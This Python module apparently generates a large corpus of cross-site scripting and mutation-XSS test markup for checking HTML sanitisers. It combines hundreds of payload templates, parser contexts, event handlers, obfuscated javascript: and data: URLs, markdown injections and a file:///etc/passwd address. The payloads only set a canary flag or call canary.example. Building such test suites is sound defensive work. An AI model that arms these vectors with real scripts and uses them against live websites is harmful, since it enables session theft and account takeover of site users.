"""Attacks on what is written of a page: over ten thousand pieces of markup, made by combining a few hundred parts.

References
----------
WHATWG, HTML, 13.2 (parsing): the states in which parsers, and so sanitisers, go different ways.
M. Heiderich et al., "mXSS Attacks: Attacking well-secured Web-Applications by using innerHTML Mutations", CCS 2013.
"""

import base64
from collections.abc import Iterator
from itertools import product

__all__ = ["vectors"]

_EVENTS = (
    "abort afterprint animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput "
    "beforematch beforepaste beforeprint beforetoggle beforeunload begin blur cancel canplay change click close "
    "contextmenu copy cuechange dblclick drag dragend dragenter dragleave dragover dragstart drop durationchange "
    "ended end error focus focusin focusout formdata fullscreenchange gotpointercapture hashchange input invalid "
    "keydown keypress keyup load loadeddata loadedmetadata loadstart lostpointercapture message mousedown mouseenter "
    "mouseleave mousemove mouseout mouseover mouseup mousewheel offline online pagehide pageshow paste pause play "
    "playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate "
    "pointerup popstate progress ratechange readystatechange repeat reset resize scroll scrollend search "
    "securitypolicyviolation seeked seeking select selectionchange selectstart show slotchange stalled start submit "
    "suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun "
    "transitionstart unhandledrejection unload volumechange waiting wheel"
).split()
_CARRIERS = (
    "<img src=x on{e}={js}>", "<svg on{e}={js}>", "<body on{e}={js}>", "<details open on{e}={js}>x</details>",
    "<input autofocus on{e}={js}>", "<video on{e}={js}><source></video>", "<p tabindex=0 autofocus on{e}={js}>x</p>",
)  # fmt: skip
_PAYLOADS = (
    "<script>{js}</script>", "<script src={url}></script>", "<script type=module>import '{url}'</script>",
    "<script type=importmap>{{}}</script>",
    '<script type=speculationrules>{{"prefetch":[{{"urls":["{url}"]}}]}}</script>', "<img src=x onerror={js}>",
    "<svg onload={js}>", "<svg><script>{js}</script></svg>", "<svg><script href={url} /></svg>",
    "<iframe src=javascript:{js}></iframe>", '<iframe srcdoc="<script>{js}</script>"></iframe>',
    "<iframe src={url}></iframe>", "<object data=javascript:{js}></object>", "<object data={url}></object>",
    "<embed src={url}>", "<applet code={url}></applet>", "<frameset onload={js}><frame src={url}></frameset>",
    "<portal src={url}></portal>", "<fencedframe src={url}></fencedframe>",
    "<meta http-equiv=refresh content='0;url={url}'>", '<meta http-equiv="&#114;efresh" content="0;{url}">',
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<meta http-equiv=set-cookie content=a=b>", "<base href={url}>", "<base target=_top>",
    "<link rel=stylesheet href={url}>", "<link rel=icon href={url}>", "<link rel=prefetch href={url}>",
    "<link rel=preload as=image href={url}>", "<link rel=modulepreload href={url}>",
    "<link rel=dns-prefetch href={url}>", "<link rel=preconnect href={url}>", "<link rel=prerender href={url}>",
    "<link rel=manifest href={url}>", "<link rel=import href={url}>", "<style>@import '{url}';</style>",
    "<style>*{{background:url({url})}}</style>",
    "<style>@font-face{{font-family:f;src:url({url})}}*{{font-family:f}}</style>",
    "<style>@keyframes k{{}}</style><p style=animation-name:k onanimationstart={js}>x</p>",
    '<p style="background:url({url})">x</p>', '<p style="background:image-set(\'{url}\' 1x)">x</p>',
    '<p style="list-style-image:url({url});display:list-item">x</p>', '<p style="border-image:url({url}) 1">x</p>',
    '<p style="cursor:url({url}),auto;filter:url({url}#f);mask:url({url})">x</p>',
    '<p style="content:url({url})">x</p>',
    '<p style="width:expression({js});behavior:url({url});-moz-binding:url({url})">x</p>', "<img src={url}>",
    "<img srcset='{url} 1x'>", "<img lowsrc={url} dynsrc={url} longdesc={url}>", "<image src={url}>",
    "<picture><source srcset={url}><img></picture>", "<video src={url} poster={url} autoplay></video>",
    "<audio src={url} autoplay></audio>", "<video><track default src={url}></video>", "<input type=image src={url}>",
    "<body background={url}>", "<table background={url}><tr><td background={url}>x</table>", "<bgsound src={url}>",
    "<svg><image href={url} /><image xlink:href={url} /></svg>", "<svg><use href='{url}#x'/></svg>",
    "<svg><feImage href={url} /></svg>", "<svg><filter><feImage xlink:href={url} /></filter></svg>",
    "<svg><style>@import '{url}'</style></svg>", "<svg><a xlink:href=javascript:{js}><text>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:{js} /></a></svg>",
    "<svg><set attributeName=onmouseover to={js} onbegin={js} /></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s></svg>",
    "<svg><foreignObject><iframe src={url}></iframe></foreignObject></svg>",
    "<svg><handler xmlns:ev=x ev:event=load>{js}</handler></svg>", "<math href=javascript:{js}>x</math>",
    "<math><maction actiontype=statusline#{url} xlink:href=javascript:{js}>x</maction></math>",
    "<math><annotation-xml encoding=text/html><script>{js}</script></annotation-xml></math>",
    "<template><script>{js}</script></template>",
    "<div><template shadowrootmode=open><script>{js}</script></template></div>", "<a href=javascript:{js}>x</a>",
    "<a href={url} ping={url}>x</a>", "<form action=javascript:{js}><input type=submit></form>",
    "<form><button formaction=javascript:{js}>x</button></form>",
    "<form id=f action={url}></form><input form=f onfocus={js} autofocus>", "<isindex action=javascript:{js}>",
    "<marquee onstart={js}>x</marquee>", "<audio src=x onerror={js}>", "<video><source onerror={js}>",
    "<blockquote cite=javascript:{js}>x</blockquote>", "<q cite=javascript:{js}>x</q>",
    "<ins cite=javascript:{js}>x</ins>", "<html manifest={url}>", "<keygen autofocus onfocus={js}>",
    "<xss id=x tabindex=1 onfocus={js} autofocus></xss>", "<xml id=x><a><b>&lt;script>{js}&lt;/script></b></a></xml>",
    "<div popover id=p onbeforetoggle={js}>x</div>", "<p contenteditable autofocus onfocus={js}>x</p>",
    "<img name=getElementById><form name=querySelector></form>",
    "<div id=penumbra-bar><button onclick={js}>x</button></div>", "<p data-penumbra=hide>x</p>",
    "<?xml-stylesheet href='{url}'?>", '<!DOCTYPE html SYSTEM "{url}">',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "{url}">]><p>&e;</p>', "<!ENTITY x '{js}'>", "<p>&e;&nbsp;&lt;script></p>",
)  # fmt: skip
_CONTEXTS = (
    "{}", "<p>{}</p>", '<p title="{}">x</p>', "<p title='{}'>x</p>", "<p title={}>x</p>", "<p {}>x</p>",
    '<p title=">{}">x</p>', "<title>{}</title>", "<title>x</title>{}", "<textarea>{}</textarea>",
    "<textarea></textarea>{}", "<style>{}</style>", "<style><!--</style>{}", "<xmp>{}</xmp>", "<noembed>{}</noembed>",
    "<noframes>{}</noframes>", "<iframe>{}</iframe>", "<noscript>{}</noscript>", '<noscript><p title="</noscript>{}">',
    "<plaintext>{}", "<!--{}-->", "<!-->{}", "<!--->{}", "<!--x--!>{}", "<!-{}->", "<![CDATA[{}]]>",
    "<svg><![CDATA[{}]]></svg>", '<svg><![CDATA[><image xlink:href="]]>{}"></svg>', "<?x {}?>", "<!x {}>", "</x {}>",
    "<svg>{}</svg>", "<svg><style>{}</style></svg>", "<svg><title>{}</title></svg>", "<svg><desc>{}</desc></svg>",
    "<svg><p>{}</svg>", "<svg><foreignObject>{}</foreignObject></svg>", "<math>{}</math>",
    "<math><mtext>{}</mtext></math>", "<math><mi>{}</mi></math>", "<math><style>{}</style></math>",
    "<math><annotation-xml>{}</annotation-xml></math>",
    '<math><annotation-xml encoding="text/html">{}</annotation-xml></math>',
    "<math><mtext><table><mglyph><style><!--</style>{}", "<math><mtext><table><mglyph><style><math>{}",
    "<form><math><mtext></form><form><mglyph><style></math>{}", "<select>{}</select>", "<select><option>{}",
    "<select><template>{}</template></select>", "<table>{}</table>", "<table><tr><td>{}</table>",
    "<table><caption>{}</table>", "<table><colgroup>{}</table>", "<table><select>{}", "<pre>\n{}</pre>",
    "<listing>{}</listing>", "<a href=/x>{}</a>", "<button>{}</button>", "<b><i>{}</b></i>", "<frameset>{}</frameset>",
    "<template>{}</template>", "<object>{}</object>", "<head>{}</head>", "</body>{}", "</html>{}", "</article></div>{}",
    "<dl><dt>{}</dl>", "<ruby><rt>{}</ruby>", "<details><summary>{}</summary></details>", "<font color=red>{}</font>",
    "<figure><figcaption>{}</figure>", "<pre><code class=language-html>{}</code></pre>", "<video>{}</video>",
    "<canvas>{}</canvas>", "<script>{}</script>", "<script><!--<script>{}</script>-->",
    "<custom-element>{}</custom-element>", "<h1>{}</h1>", "<ul><li>{}</ul>",
)  # fmt: skip
_OUTER = (
    "<svg>", "<math>", "<svg></p>", "<math></p>", "<math><mtext>", "<svg><desc>", "<svg><foreignObject><math>",
    "<math><mtext><table><mglyph>", "<form><math><mtext></form><form><mglyph>",
    "<math><annotation-xml encoding=text/html>", "<table><svg>", "<select><svg>", "<svg><svg><b>",
    "<math><mi><table><svg>", "<noscript><svg>", "<template><svg>",
)  # fmt: skip
_RAW = "style title xmp noscript noframes noembed iframe textarea script plaintext".split()
_HIDDEN = (
    '<a id="</{raw}>{payload}">', '<a title="--></{raw}>{payload}">', "<!--</{raw}>{payload}-->", "</{raw}>{payload}",
    "&lt;/{raw}>{payload}",
)  # fmt: skip
_ADDRESSES = (
    "javascript:{js}", "JaVaScRiPt:{js}", "java\tscript:{js}", "java\nscript:{js}", "java\rscript:{js}",
    "&#106;avascript:{js}", "&#x6A;avascript:{js}", "&#0000106avascript:{js}", "javascript&colon;{js}",
    "java&Tab;script:{js}", "java&NewLine;script:{js}", "javascript&#58;{js}", "javascript&#x3A;{js}",
    "&#1;javascript:{js}", "\x01javascript:{js}", "\x0bjavascript:{js}", "\x1fjavascript:{js}", "\xa0javascript:{js}",
    "\u2028javascript:{js}", "\ufeffjavascript:{js}", "java\x00script:{js}", "javascript://%0a{js}",
    "javascript:%74op.ran=1", "vbscript:{js}", "livescript:{js}", "mocha:{js}", "feed:javascript:{js}",
    "view-source:javascript:{js}", "jar:javascript:{js}", "data:text/html,<script>{js}</script>",
    "data:text/html;base64,{b64}", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{js}'/>",
    "data:image/svg+xml;base64,{b64}", "data:application/xhtml+xml,<x/>", "DATA:text/html,x", "da\tta:text/html,x",
    "blob:{url}", "filesystem:{url}", "file:///etc/passwd", "//{host}", "\\\\{host}", "http:/\\{host}", "ftp://{host}",
    "about:blank", "x:y", "#{js}", "?{js}", "",
)  # fmt: skip
_HOLDERS = (
    '<a href="{a}">x</a>', "<a href='{a}'>x</a>", '<area href="{a}">', '<iframe src="{a}"></iframe>',
    '<form action="{a}"><input type=submit></form>', '<button formaction="{a}">x</button>',
    '<object data="{a}"></object>', '<embed src="{a}">', '<svg><a xlink:href="{a}"><text>x</text></a></svg>',
    '<math><mtext><a href="{a}">x</a></mtext></math>', '<img src="{a}">', '<img data-src="{a}">',
    '<img srcset="{a} 2x">', '<blockquote cite="{a}">x</blockquote>', '<meta http-equiv=refresh content="0;url={a}">',
    '<link rel=stylesheet href="{a}">', '<video src="{a}" poster="{a}"></video>', '<input type=image src="{a}">',
    '<svg><a><set attributeName=href to="{a}"/></a></svg>', '<svg><use href="{a}"/></svg>',
    '<iframe data-src="{a}"></iframe>', '<p style="background:url(\'{a}\')">x</p>', '<base href="{a}">',
)  # fmt: skip
_SYNTAXES = (
    "<img/src=x/onerror={js}>", "<img\x0csrc=x\x0conerror={js}>", "<img\tsrc=x\tonerror={js}>",
    "<img src=x onerror\n=\n{js}>", '<img src="x"onerror="{js}">', "<img src='x'onerror='{js}'>",
    "<img src=x onerror=`{js}`>", "<IMG SRC=x ONERROR={js}>", "<im\x00g src=x onerror={js}>",
    "<img src=x on\x00error={js}>", "<\x00img src=x onerror={js}>", "<img src=x onerror={js} onerror=x>",
    "<img src=x title=a onerror={js} title='b'>", '<img src=x """onerror={js}>', "<img src=x =onerror={js}>",
    "<img src=x /=/onerror={js}>", "<img <img src=x onerror={js}>", "<<img src=x onerror={js}>",
    "<img src=x onerror={js}//", "<img src=x onerror={js} <p>", "<img src=x onerror={js}\x0b>",
    "<img\x0bsrc=x onerror={js}>", "＜img src=x onerror={js}＞", "<img src=x on&#101;rror={js}>",
    "&lt;img src=x onerror={js}&gt;", "&amp;lt;img src=x onerror={js}&amp;gt;", "&#60;img src=x onerror={js}&#62;",
    "\\x3cimg src=x onerror={js}\\x3e", "%3Cimg src=x onerror={js}%3E", "+ADw-img src=x onerror={js}+AD4-",
    "<img src=x onerror=&#116;op.ran=1>", "<img src=x xmlns:onerror={js}>", "<img src=x x:onerror={js}>",
    "<p:img src=x onerror={js}>", "<img src=x onerror={js} \ud800>", "<img src=x \u202eonerror={js}>",
    "<scr<script>ipt>{js}</scr</script>ipt>", "<script/x>{js}</script>", "<script\x0c>{js}</script >", "<script>{js}",
    "</script><script>{js}",
)  # fmt: skip
_AS_TEXT = (
    "[x](javascript:{js})", "[x](<javascript:{js}>)", "[x]( java&Tab;script:{js})", "![x]({url})",
    "[![x]({url})](javascript:{js})", "<javascript:{js}>", "<{url}>", "[x]: javascript:{js}\n\n[x]",
    "[x][y]\n\n[y]: {url} '\"><script>{js}</script>'", "<script>{js}</script>", "<img src=x onerror={js}>",
    "\\<img src=x onerror={js}>", "`<img src=x onerror={js}>`", "``` \n<img src=x onerror={js}>\n```",
    "    <img src=x onerror={js}>", "<!-- --><img src=x onerror={js}>", "<!--><img src=x onerror={js}>",
    "<?<img src=x onerror={js}>?>", "<![CDATA[<img src=x onerror={js}>]]>", "&<img src=x onerror={js}>",
    "&lt;img src=x onerror={js}&gt;", "]]><img src=x onerror={js}>", "--><img src=x onerror={js}>",
    '"><img src=x onerror={js}>', "'><img src=x onerror={js}>", "](javascript:{js})[",
    "x\n===\n<img src=x onerror={js}>", "|<img src=x onerror={js}>|\n|---|\n|x|", "[^1]: <img src=x onerror={js}>",
    "$$<img src=x onerror={js}>$$", "{{{{7*7}}}}{{% include 'x' %}}", "</body></html><img src=x onerror={js}>",
    "---\ntitle: <img src=x onerror={js}>\n---",
)  # fmt: skip
_TEXT_HOLDERS = (
    "<p>{}</p>", "<pre>{}</pre>", "<pre><code>{}</code></pre>", "<code>{}</code>", "<td>{}</td>",
    "<table><tr><th>{}</table>", "<ul><li>{}</ul>", "<h2>{}</h2>", '<a href="https://e.org/">{}</a>',
    "<blockquote>{}</blockquote>", "<figcaption>{}</figcaption>", "<math><mi>{}</mi></math>",
    '<img src="https://e.org/x" alt="{}">', '<a href="https://e.org/{}">x</a>', '<p title="{}">x</p>',
    '<iframe src=https://e.org/ title="{}"></iframe>',
)  # fmt: skip


def vectors(address: str = "http://canary.example") -> Iterator[str]:
    """All vectors, none twice. Each runs `top.ran=1`, or asks `address` for something, where it works."""
    seen: set[str] = set()
    for template in _templates():
        markup = _filled(template, address)
        if markup not in seen:
            seen.add(markup)
            yield markup


def _filled(template: str, address: str) -> str:
    code = base64.b64encode(b"<script>top.ran=1</script>").decode()
    host = f"{address.partition('//')[2]}/fetched"
    return template.format(js="top.ran=1", url=f"{address}/fetched", host=host, b64=code, e="{e}")


def _templates() -> Iterator[str]:
    yield from _PAYLOADS
    yield from _SYNTAXES
    for event, carrier in product(_EVENTS, _CARRIERS):
        yield carrier.replace("{e}", event)
    for context, payload in product(_CONTEXTS, (*_PAYLOADS, *_SYNTAXES[:8])):
        yield context.replace("{}", payload)
    few = [_PAYLOADS[place] for place in (0, 5, 9, 19, 46)]
    for outer, raw, hidden, payload in product(_OUTER, _RAW, _HIDDEN, few):
        yield f"{outer}<{raw}>" + hidden.replace("{raw}", raw).replace("{payload}", payload)
    for holder, address in product(_HOLDERS, _ADDRESSES):
        yield holder.replace("{a}", address)
    for holder, text in product(_TEXT_HOLDERS, _AS_TEXT):
        yield holder.replace("{}", _escaped(text))


def _escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
